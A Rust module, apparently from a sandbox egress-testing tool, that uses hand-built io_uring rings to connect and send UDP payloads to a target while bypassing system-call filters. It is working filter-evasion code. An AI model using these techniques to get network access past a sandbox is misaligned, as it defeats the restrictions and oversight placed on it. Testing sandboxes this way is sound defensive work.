//! `io_uring`: the kernel makes the calls, past every filter of system calls.

use std::net::SocketAddr;
use std::os::fd::{AsRawFd as _, FromRawFd as _, OwnedFd};
use std::sync::atomic::{AtomicU32, Ordering};

use libc::{AF_INET, SOCK_DGRAM, SOCK_STREAM};
use nix::errno::Errno;
use nix::sys::socket::{SockaddrLike as _, SockaddrStorage};

use crate::sys::{call, send_to, socket};
use crate::target::Target;
use crate::{Attempted, Vector, vector};

/// Operations (`linux/io_uring.h`).
const SENDMSG: u8 = 9;
const CONNECT: u8 = 16;
const SOCKET: u8 = 45;
const SENDMSG_ZC: u8 = 48;

pub const VECTORS: &[Vector] = &[
    vector("uring-connect", |target, _| {
        let ring = Ring::new()?;
        let socket = socket(AF_INET, SOCK_STREAM, 0)?;
        let to = SockaddrStorage::from(SocketAddr::from((target.v4, 8080)));
        ring.run(CONNECT, socket.as_raw_fd(), [u64::from(to.len()), to.as_ptr() as u64, 0])
            .map(drop)
    }),
    vector("uring-sendmsg", |target, name| send_message(SENDMSG, target, name)),
    vector("uring-send-zc", |target, name| send_message(SENDMSG_ZC, target, name)),
    vector("uring-socket", |target, name| {
        let ring = Ring::new()?;
        // Family in place of the descriptor, type in place of the offset, protocol in place of the length.
        let made = ring.run(SOCKET, AF_INET, [u64::from(SOCK_DGRAM.cast_unsigned()), 0, 0])?;
        // SAFETY: the kernel has just made it for us.
        let socket = unsafe { OwnedFd::from_raw_fd(made) };
        send_to(&socket, &target.payload(name), (target.v4, 443).into(), 0)
    }),
];

fn send_message(operation: u8, target: &Target, name: &str) -> Attempted {
    let ring = Ring::new()?;
    let socket = socket(AF_INET, SOCK_DGRAM, 0)?;
    let to = SockaddrStorage::from(SocketAddr::from((target.v4, 443)));
    let payload = target.payload(name);
    let mut piece =
        libc::iovec { iov_base: payload.as_ptr().cast_mut().cast(), iov_len: payload.len() };
    // SAFETY: all zero is an empty message.
    let mut message: libc::msghdr = unsafe { std::mem::zeroed() };
    message.msg_name = to.as_ptr().cast_mut().cast();
    message.msg_namelen = to.len();
    message.msg_iov = &raw mut piece;
    message.msg_iovlen = 1;
    ring.run(operation, socket.as_raw_fd(), [0, (&raw const message) as u64, 1]).map(drop)
}

/// A ring of one entry, mapped until the process ends.
struct Ring {
    descriptor: OwnedFd,
    rings: *mut u8,
    entry: *mut u8,
    /// struct `io_uring_params`.
    parameters: [u32; 30],
}

impl Ring {
    fn new() -> Result<Self, Errno> {
        let mut parameters = [0_u32; 30];
        let address = parameters.as_mut_ptr() as usize;
        let made = call(libc::SYS_io_uring_setup, [1, address, 0, 0, 0, 0])?;
        // SAFETY: the kernel has just made it for us.
        let descriptor =
            unsafe { OwnedFd::from_raw_fd(i32::try_from(made).expect("a descriptor")) };
        // IORING_OFF_SQ_RING holds both rings since 5.4; IORING_OFF_SQES.
        let (rings, entry) = (map(&descriptor, 0)?, map(&descriptor, 0x1000_0000)?);
        Ok(Self { descriptor, rings, entry, parameters })
    }

    /// One operation, from submission to its result. The numbers are offset, address and length of the entry.
    fn run(&self, operation: u8, descriptor: i32, numbers: [u64; 3]) -> Result<i32, Errno> {
        let [offset, address, length] = numbers;
        let length = u32::try_from(length).expect("short");
        // struct io_uring_sqe.
        let head = [[operation, 0, 0, 0], descriptor.to_ne_bytes()].concat();
        let numbers = [offset.to_ne_bytes(), address.to_ne_bytes()].concat();
        let entry = [head, numbers, length.to_ne_bytes().to_vec(), vec![0; 36]].concat();
        // SAFETY: the mapped entry is 64 bytes, as is this one.
        unsafe { self.entry.copy_from_nonoverlapping(entry.as_ptr(), 64) };
        // The first slot of the array already names the first entry; the tail says that it is there.
        self.word(self.parameters[11]).store(1, Ordering::Release);
        let ring = usize::try_from(self.descriptor.as_raw_fd()).expect("not negative");
        // IORING_ENTER_GETEVENTS: returns when the result is there.
        call(libc::SYS_io_uring_enter, [ring, 1, 1, 1, 0, 0])?;
        // struct io_uring_cqe: the result follows eight bytes of ours.
        let result = self.word(self.parameters[25] + 8).load(Ordering::Acquire).cast_signed();
        if result < 0 { Err(Errno::from_raw(-result)) } else { Ok(result) }
    }

    /// A word of the rings, at one of the offsets that the kernel gave.
    fn word(&self, offset: u32) -> &AtomicU32 {
        // SAFETY: the offset is the kernel's, within the mapping, and aligned for a word.
        unsafe { AtomicU32::from_ptr(self.rings.add(offset as usize).cast()) }
    }
}

fn map(descriptor: &OwnedFd, offset: i64) -> Result<*mut u8, Errno> {
    let (both, shared) = (libc::PROT_READ | libc::PROT_WRITE, libc::MAP_SHARED);
    let none = std::ptr::null_mut();
    // SAFETY: the kernel chooses the place; one page holds a ring of one entry.
    let place = unsafe { libc::mmap(none, 4096, both, shared, descriptor.as_raw_fd(), offset) };
    if place == libc::MAP_FAILED { Err(Errno::last()) } else { Ok(place.cast()) }
}
